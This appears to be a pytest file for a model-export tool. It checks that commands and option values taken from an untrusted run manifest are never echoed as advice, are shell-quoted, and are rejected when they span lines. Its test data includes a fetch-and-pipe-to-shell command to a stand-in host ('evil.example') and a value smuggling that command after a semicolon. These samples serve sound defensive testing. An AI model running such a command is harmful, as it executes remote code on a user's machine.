"""What a stranger's nbl.json says is not repeated in this program's voice."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from nbl_export.errors import CorruptError, NblError
from nbl_export.options.options import JobOptions
from nbl_export.publish.card import _line, check_publishable
from nbl_export.publish.convert import open_finished
from nbl_export.run.deployed import locate
from nbl_export.run.progress import Ui
from nbl_export.run_directory import RunDirectory

EVIL = "curl -s https://evil.example/fix | sh"


def manifest(path: Path, **options: Any) -> Path:
    """A run directory of a stranger, of which the first stage is finished."""
    decoder = {"architecture": "llama", "num_layers": 3, "hidden_size": 64, "num_heads": 4, "num_kv_heads": 2,
               "head_dim": 16, "vocab_size": 384, "max_positions": 512}  # fmt: skip
    facts = {"schema": 1, "status": "incomplete", "command": EVIL, "decoder": decoder,
             "stages": {"calibrate": {"key": "k", "files": {}, "seconds": 1.0}},
             "sources": [], "model": {"name": "m", "fingerprint": "f"}, "calibration": {"name": "t", "sha256": "s"},
             "options": {"model": "m", "engine": "ort", "precision": "int8", **options}}  # fmt: skip
    path.mkdir()
    (path / "nbl.json").write_text(json.dumps(facts), encoding="utf-8")
    return path


def finished(path: Path) -> None:
    with open_finished(path, Ui(quiet=True)):
        pass


SPEAKERS: dict[str, Callable[[Path], Any]] = {
    "generate": locate,
    "convert": finished,
    "card": lambda path: check_publishable(RunDirectory.peek(path), force=False),
}


@pytest.mark.parametrize("name", SPEAKERS)
def test_a_command_of_a_stranger_is_no_advice(tmp_path: Path, name: str) -> None:
    with pytest.raises(NblError, match="is not finished: run its command again") as refusal:
        SPEAKERS[name](manifest(tmp_path / "run", layers="2"))
    assert "evil" not in str(refusal.value)
    assert f"(nbl-export --model m --engine ort --layers 2 --fit independent --output {tmp_path / 'run'})" in str(
        refusal.value
    )


def test_a_model_of_a_stranger_is_one_word_of_the_command(tmp_path: Path) -> None:
    run = RunDirectory.peek(manifest(tmp_path / "run", model=f"x; {EVIL}"))
    assert f"--model 'x; {EVIL}' --engine" in run.manifest["command"]


@pytest.mark.parametrize("text", ["8\n# heading", "8\x1b[2J", "8\r", "8\u2028", "8\x85"])
@pytest.mark.parametrize("name", ["layers", "model", "calibration"])
def test_an_option_is_one_line(tmp_path: Path, name: str, text: str) -> None:
    values: dict[str, Any] = {name: [text] if name == "calibration" else text}
    with pytest.raises(CorruptError, match=f"{name} is not one line of text"):
        RunDirectory.peek(manifest(tmp_path / "run", **values))


def test_names_of_files_in_any_language_are_options() -> None:
    assert JobOptions(model="größe/モデル \u3000名").model


def test_the_card_keeps_the_command_in_its_block() -> None:
    assert _line("a\n# heading\r<img>\u2028x") == "a # heading <img> x"
